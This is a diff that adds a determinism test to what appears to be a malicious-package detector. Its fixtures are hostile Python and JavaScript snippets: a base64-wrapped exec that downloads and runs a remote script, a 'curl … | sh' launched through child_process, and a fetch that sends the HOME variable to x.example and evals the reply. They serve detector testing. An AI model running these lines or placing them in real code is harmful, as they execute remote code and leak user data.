@@ -8,6 +8,7 @@ alone and in a batch. Nothing here times anything: load is applied, results are 
 
 from __future__ import annotations
 
+import base64
 import json
 import multiprocessing
 import re
@@ -190,3 +191,31 @@ def test_sequence_scores_do_not_depend_on_batch_order_or_threads(model_texts: li
     assert one.score(model_texts) == alone
     assert one.score(model_texts[::-1])[::-1] == alone
     assert SequenceScorer.load(threads=2).score(model_texts) == alone
+
+
+def test_nodes_starting_at_the_same_byte_are_handled_in_one_order() -> None:
+    # tree-sitter's captures() lists `a().b().c()`'s calls (all starting at one byte) in an order that
+    # changes from run to run; the events of one position must still come out in one order.
+    from malseq._deadline import Deadline
+    from malseq.features.javascript import analyse_javascript
+    from malseq.features.python import analyse_python_text
+    from malseq.intake.package import Language, PackageFile
+
+    inner = b'__import__("importlib").import_module("urllib.request").urlopen("https://x.example/r.py").read()'
+    py = b"import base64\nexec(base64.b64decode(b'" + base64.b64encode(b"exec(" + inner + b")") + b"'))\n"
+    js = (b'require("child_process").exec("curl http://x.example/a | sh").stdout.pipe(process.stdout);'
+          b'fetch("https://x.example/?" + process.env.HOME).then(r => r.text()).then(eval);')
+
+    def py_run() -> tuple[object, ...]:
+        result = analyse_python_text("m.py", py)
+        return result.events, result.calls
+
+    def js_run() -> tuple[object, ...]:
+        result = analyse_javascript(PackageFile("m.js", js, Language.JAVASCRIPT, False), Deadline(60))
+        return result.events, result.calls
+
+    assert len({py_run() for _ in range(20)}) == 1
+    assert len({js_run() for _ in range(20)}) == 1
+    events, _calls = py_run()
+    assert isinstance(events, tuple)
+    assert {"eval_code", "network_request", "import_network_module"} <= {e.behaviour for e in events}
